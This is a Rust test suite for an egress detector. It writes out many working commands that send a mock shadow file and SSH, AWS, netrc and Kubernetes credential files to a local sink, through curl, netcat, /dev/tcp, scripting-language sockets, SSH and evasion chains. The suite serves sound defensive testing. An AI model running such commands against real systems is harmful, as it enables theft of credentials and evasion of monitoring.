//! A sensitive file is read and leaves (issue 4, items 1 and 2): by every way that people take, found with the right
//! file, program, destination and confidence.

use counterfoil_tests::daemon::Daemon;
use counterfoil_tests::leak::{SHADOW, chain, exe, in_python, leaking, leaks, left, with_secret};
use counterfoil_tests::sink::Sink;
use counterfoil_tests::sshd::Sshd;
use counterfoil_tests::{Observed, Scratch, check, need, need_sshd, peers, wait};
use std::time::Duration;

#[test]
fn curl() {
    need!("curl");
    for way in ["-T secret/shadow", "--data-binary @secret/shadow", "-F f=@secret/shadow"] {
        let run = leaking(&format!("curl -sS {way} http://127.0.0.1:$P/up >/dev/null"));
        assert_eq!(chain(&left(&run, "curl", "proven")), ["curl"]);
    }
    // Without its line ends, as curl sends it.
    left(&leaking("curl -sS -d @secret/shadow http://127.0.0.1:$P/up >/dev/null"), "curl", "proven");
}

#[test]
fn wget() {
    need!("wget");
    left(&leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"), "wget", "proven");
}

#[test]
fn netcat() {
    need!("nc");
    left(&leaking("nc -N 127.0.0.1 $P <secret/shadow"), "nc", "proven");
    let run = leaking("cat secret/shadow | nc -N 127.0.0.1 $P");
    let alarm = left(&run, "nc", "proven");
    let seen = alarm.0["evidence"]["spans"][0]["length"].as_u64().unwrap_or(0) as usize;
    check!(run, (SHADOW.len() - 64..=SHADOW.len()).contains(&seen), "{seen} bytes of it");
}

#[test]
fn socat() {
    need!("socat");
    left(&leaking("socat -u OPEN:secret/shadow TCP:127.0.0.1:$P"), "socat", "proven");
}

#[test]
fn bash_dev_tcp() {
    need!("bash");
    left(&leaking("bash -c 'cat secret/shadow >/dev/tcp/127.0.0.1/$P'"), "cat", "proven");
    left(
        &leaking(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$P; while read -r line; do echo \"$line\" >&3; done <secret/shadow'",
        ),
        "bash",
        "correlated",
    );
}

#[test]
fn python() {
    need!("/usr/bin/python3");
    for code in [
        "import urllib.request as u; u.urlopen(\"http://127.0.0.1:$P/\", open(\"secret/shadow\",\"rb\").read())",
        // The connection is older than the reading.
        "import socket; s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(b\"hello\\\\n\"); d=open(\"secret/shadow\",\"rb\").read(); s.sendall(b\"x\"+d)",
        // It forks between reading and sending.
        "import socket,os; d=open(\"secret/shadow\",\"rb\").read(); p=os.fork(); s=p or socket.create_connection((\"127.0.0.1\",$P)); p or s.sendall(b\"x\"+d); p and os.wait()",
    ] {
        left(&leaking(&in_python(code)), "python3", "proven");
    }
}

/// What asks a library's own handle for its functions finds them past a preloaded library: ctypes, LuaJIT, Nim, Racket, .NET.
#[test]
fn by_functions_asked_for_by_a_handle() {
    need!("/usr/bin/python3", "luajit");
    let code = "import ctypes,socket; s=socket.create_connection((\"127.0.0.1\",$P)); d=open(\"secret/shadow\",\"rb\").read(); \
        ctypes.CDLL(\"libc.so.6\").send(s.fileno(),d,len(d),0)";
    left(&leaking(&in_python(code)), "python3", "proven");
    let code = "local ffi=require[[ffi]]; ffi.cdef[[int open(const char*,int); long read(int,void*,long); int socket(int,int,int); \
        int connect(int,const void*,int); long send(int,const void*,long,int); unsigned short htons(unsigned short);]]; \
        local c,a,d=ffi.load[[libc.so.6]],ffi.new[=[short[8]]=],ffi.new[=[char[999]]=]; local s=c.socket(2,1,0); \
        a[0],a[1],a[2],a[3]=2,c.htons($P),127,256; assert(c.connect(s,a,16)==0); \
        local n=c.read(c.open([[secret/shadow]],0),d,999); assert(c.send(s,d,n,0)==n)";
    let code = code.replace("$P", "'$P'");
    left(&leaking(&format!("luajit -e '{code}'")), "luajit", "proven");
}

/// PHP loads its extensions with RTLD_DEEPBIND: what they call is looked for past a preloaded library.
#[test]
fn php() {
    need!("php");
    let file = "new CURLFile(\"secret/shadow\")";
    let code = format!(
        "$c = curl_init(\"http://127.0.0.1:$P/\"); curl_setopt($c, CURLOPT_POSTFIELDS, [\"f\" => {file}]); exit(!curl_exec($c));"
    );
    // The port is the shell's to put in, the variables are PHP's.
    let alarm = left(&leaking(&format!("php -r '{}'", code.replace("$P", "'$P'"))), "php", "proven");
    assert_eq!(alarm.0["count"], 1);
}

#[test]
fn perl() {
    need!("perl");
    let code = "use IO::Socket::INET; open(F, \"secret/shadow\"); local $/; my $d = <F>; \
        my $s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:$ENV{P}\") or die; print $s $d; close $s";
    let alarm = left(&leaking(&format!("perl -e '{code}'")), "perl", "proven");
    assert_eq!(alarm.0["count"], 1);
}

#[test]
fn through_pipes_and_programs() {
    need!("gzip", "openssl", "base64", "nc", "curl");
    let run = leaking("tar c secret | gzip | nc -N 127.0.0.1 $P");
    assert_eq!(chain(&left(&run, "nc", "correlated")), ["tar", "gzip", "nc.openbsd"]);
    let run = leaking("openssl enc -aes-256-cbc -pbkdf2 -k x -in secret/shadow | nc -N 127.0.0.1 $P");
    assert_eq!(chain(&left(&run, "nc", "correlated")), ["openssl", "nc.openbsd"]);
    // What a child prints its parent puts on another child's command line.
    let run = leaking("curl -sS \"http://127.0.0.1:$P/$(base64 -w0 secret/shadow)\" >/dev/null");
    let alarm = left(&run, "curl", "correlated");
    assert_eq!(chain(&alarm)[0], "base64");
}

/// A shell's forks of forks run nothing of their own, and may say nothing before they start something.
#[test]
fn through_forks_of_forks() {
    need!("curl", "setsid");
    let commands = "read x <secret/shadow; \
        ( (setsid -w curl -sS -d hello http://127.0.0.1:$P/; true); true) </dev/null >got 2>&1";
    let run = leaking(commands);
    assert_eq!(chain(&left(&run, "curl", "correlated"))[..2], ["dash", "setsid"]);
}

#[test]
fn through_files() {
    need!("curl", "gzip", "split");
    let run = leaking("gzip -c secret/shadow >packed; curl -sS -T packed http://127.0.0.1:$P/ >/dev/null");
    assert_eq!(chain(&left(&run, "curl", "correlated")), ["gzip", "curl"]);
    let run = leaking("cp secret/shadow copy; mv copy other; nc -N 127.0.0.1 $P <other");
    left(&run, "nc", "proven");
    let run = leaking(
        "split -b 60 secret/shadow piece; for p in piece*; do curl -sS -T $p http://127.0.0.1:$P/ >/dev/null; done",
    );
    left(&run, "curl", "proven");
}

#[test]
fn other_names_of_it() {
    need!("curl");
    let run = leaking("ln secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
    left(&run, "curl", "proven");
    let run = leaking("ln -s secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
    left(&run, "curl", "proven");
}

#[test]
fn over_tls() {
    need!("openssl");
    let scratch = Scratch::new();
    peers::certificate(&scratch);
    let port = peers::free_port();
    let commands = format!(
        "mkfifo hold\nopenssl s_server -accept 127.0.0.1:{port} -cert cert.pem -key key.pem -quiet -naccept 1 <hold >got & server=$!\n\
         exec 9>hold\nlistening {port}\n\
         cat secret/shadow | openssl s_client -connect 127.0.0.1:{port} -quiet -no_ign_eof -nocommands >/dev/null 2>&1\nwait $server"
    );
    let run = with_secret(scratch, &commands).go();
    left(&run, "openssl", "proven");
}

#[test]
fn over_ssh() {
    need_sshd!();
    let to = |commands: &str| {
        let scratch = Scratch::new();
        let script = Sshd::new(&scratch).around(commands);
        with_secret(scratch, &script).limit(120).go().well()
    };
    left(&to("scp secret/shadow far:$here/got"), "ssh", "proven");
    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "proven");
    left(&to("ssh far 'cat >got' <secret/shadow"), "ssh", "proven");
    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "proven");
    left(&to("tar cz secret | ssh far 'cat >got'"), "ssh", "correlated");
    if peers::find("rsync").is_some() {
        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "proven");
    }
}

#[test]
fn behind_much_else_on_the_same_connection() {
    need!("/usr/bin/python3");
    let run = leaking(&in_python(
        "import socket; s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(bytes(range(256))*512); s.sendall(open(\"secret/shadow\",\"rb\").read())",
    ));
    left(&run, "python3", "proven");
}

/// Served to who asks for it: only the content tells.
#[test]
fn served_over_http() {
    need!("/usr/bin/python3", "curl");
    let port = peers::free_port();
    let listening = counterfoil_tests::observed::listening(port);
    let commands = format!(
        "{} -m http.server --bind 127.0.0.1 {port} >server.log 2>&1 & server=$!\n{listening}\n\
         curl -sS http://127.0.0.1:{port}/FILE >got\n\
         # It answers again, so it is done with the first.\n\
         curl -sS http://127.0.0.1:{port}/server.log >/dev/null\nkill $server",
        peers::PYTHON
    );
    let serve = |file: &str| with_secret(Scratch::new(), &commands.replace("FILE", file)).limit(180).go();
    left(&serve("secret/shadow"), "python3", "proven");
}

/// As root there is more than one name that is no link.
#[test]
fn bound_elsewhere() {
    need!("unshare", "mount", "curl");
    if !peers::root() {
        counterfoil_tests::skip!("a bind mount needs root");
    }
    let commands = "unshare -m sh -euc 'touch other; mount --bind secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null'";
    left(&leaking(commands), "curl", "proven");
}

/// A program that calls itself as one does that may read it.
#[test]
fn a_trusted_name_elsewhere() {
    need!("curl");
    let sink = Sink::start();
    let scratch = Scratch::new();
    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
    scratch.write("secret/shadow", SHADOW);
    let config = format!(
        "[egress]\nknown_benign_processes = [\"/usr/bin/curl\"]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
    );
    let config = scratch.write("egress.toml", config).display().to_string();
    let session = |commands: &str| {
        let mut session = Observed::script(commands).option("--config").option(&config);
        session = session.env("P", sink.port().to_string()).env("HERE", &here);
        session.go().well()
    };
    // It reads it for its work, and sends something else.
    let work = "cd $HERE; PROGRAM -sS -K secret/shadow http://127.0.0.1:$P/ >/dev/null 2>&1 || true";
    let quiet = session(&work.replace("PROGRAM", "/usr/bin/curl"));
    check!(quiet, leaks(&quiet).is_empty(), "{:#?}", leaks(&quiet));
    let loud = session(&format!("cp /usr/bin/curl $HERE/curl\n{}", work.replace("PROGRAM", "$HERE/curl")));
    check!(loud, leaks(&loud).iter().any(|a| exe(a) == "curl"), "nothing about another curl");
}

/// The host's daemon doesn't look at everything that runs; who opens a sensitive file is looked at from then on.
#[test]
fn by_a_program_that_is_not_watched() {
    need!("/usr/bin/python3");
    let scratch = Scratch::new();
    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
    let secret = scratch.write("secret/shadow", SHADOW).display().to_string();
    let daemon = Daemon::start(&format!(
        "[egress]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
    ));
    let sink = Sink::start();
    let code = format!(
        "import socket; s=socket.create_connection(('127.0.0.1',{})); s.sendall(b'hello'); s.sendall(b'x'+open('{secret}','rb').read())",
        sink.port()
    );
    daemon.observing(&[peers::PYTHON, "-c", &code]).go().well();
    let found = wait::until(Duration::from_secs(20), daemon.shown("an alarm"), || {
        daemon
            .report()
            .alarms()
            .into_iter()
            .find(|a| a.rule() == "sensitive-egress" && a.0["confidence"] == "proven")
    });
    assert_eq!(found.0["file"]["path"], secret.as_str());
    assert!(exe(&found).starts_with("python3"), "{}", found.0);
}

/// People at work: each of these programs reads what is its own, and connects.
#[test]
fn ordinary_work() {
    need!("curl", "ssh-keygen");
    need_sshd!();
    let scratch = Scratch::new();
    let sshd = Sshd::new(&scratch);
    let here = scratch.path().canonicalize().expect("scratch");
    for (name, text) in [
        ("home/.netrc", "machine 127.0.0.1 login ann password a-long-and-secret-password-of-ann\n"),
        ("home/.config/file", "x\n"),
    ] {
        scratch.write(name, text);
    }
    std::fs::create_dir_all(here.join("home/.ssh")).expect("folder");
    std::fs::copy(here.join("user_key"), here.join("home/.ssh/id_ed25519")).expect("key");
    peers::prepare(&scratch, &["chmod", "600", "home/.ssh/id_ed25519", "home/.netrc"]);
    let sink = Sink::start();
    let mut work = "curl -sSn http://127.0.0.1:$P/ >/dev/null\n\
        ssh -i home/.ssh/id_ed25519 far true\n\
        echo hello >file; scp -i home/.ssh/id_ed25519 file far:$here/got\n"
        .to_owned();
    if peers::find("git").is_some() {
        work += "export GIT_SSH_COMMAND=\"ssh -F $here/ssh_config -i $here/home/.ssh/id_ed25519\"\n\
            git init -q one; git -C one -c user.name=a -c user.email=a@b commit -q --allow-empty -m x\n\
            git clone -q far:$here/one two\n";
    }
    if peers::root() {
        // What they start connects, and has nothing of what they read.
        work += "su -c \"curl -sS http://127.0.0.1:$P/ >/dev/null\" root\npasswd -S root >/dev/null; chage -l root >/dev/null\n\
            curl -sS http://127.0.0.1:$P/ >/dev/null\n";
    }
    let mut session = Observed::script(&sshd.around(&work)).env("HOME", here.join("home")).limit(240);
    session = session.env("P", sink.port().to_string());
    session.scratch = scratch;
    let run = session.go().well();
    check!(run, leaks(&run).is_empty(), "{:#?}", leaks(&run));
}

/// The same files, by somebody whose work it is not.
#[test]
fn the_built_in_files_in_a_private_home() {
    need!("curl");
    for (name, label) in [
        (".ssh/id_rsa", "SSH private key"),
        (".aws/credentials", "AWS credentials"),
        (".netrc", "netrc passwords"),
        (".kube/config", "Kubernetes credentials"),
    ] {
        let scratch = Scratch::new();
        let here = scratch.path().canonicalize().expect("scratch");
        scratch.write(&format!("home/{name}"), SHADOW);
        let sink = Sink::start();
        let command = format!("curl -sS -T home/{name} http://127.0.0.1:$P/ >/dev/null");
        let mut session = Observed::script(&command).env("HOME", here.join("home")).limit(180);
        session = session.env("P", sink.port().to_string());
        session.scratch = scratch;
        let run = session.go().well();
        let found = leaks(&run);
        let alarm = found.last().filter(|a| a.0["confidence"] == "proven" && a.0["file"]["label"] == label);
        check!(run, alarm.is_some(), "{name}: {found:#?}");
    }
}

/// Who reads it for its work, who asks for something else, who only serves.
#[test]
fn nothing_of_all_this() {
    need!("curl", "nc");
    let quiet = |commands: &str| {
        let run = leaking(commands);
        let alarms = leaks(&run);
        check!(run, alarms.is_empty(), "{alarms:#?}");
    };
    // Sent before it was read, and by others.
    quiet("curl -sS http://127.0.0.1:$P/ >/dev/null; cat secret/shadow >/dev/null");
    // Nothing but other files.
    quiet(
        "echo hello >file; curl -sS -T file http://127.0.0.1:$P/ >/dev/null; stat secret/shadow >/dev/null",
    );
}
